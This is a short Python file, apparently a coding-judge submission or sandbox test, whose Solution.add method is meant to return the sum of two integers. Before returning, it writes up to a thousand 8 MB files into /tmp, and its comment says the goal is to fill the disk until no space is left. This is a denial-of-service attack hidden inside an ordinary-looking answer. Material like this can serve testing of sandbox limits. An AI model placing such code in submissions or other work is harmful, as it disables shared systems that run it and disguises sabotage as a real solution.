# Fills /tmp (a small tmpfs) with 8 MB files until the disk is full: "No space left on device".
class Solution:
    def add(self, a: int, b: int) -> int:
        block = b"d" * (8 << 20)
        for n in range(1000):
            with open("/tmp/fill-%d" % n, "wb") as f:
                f.write(block)
        return a + b
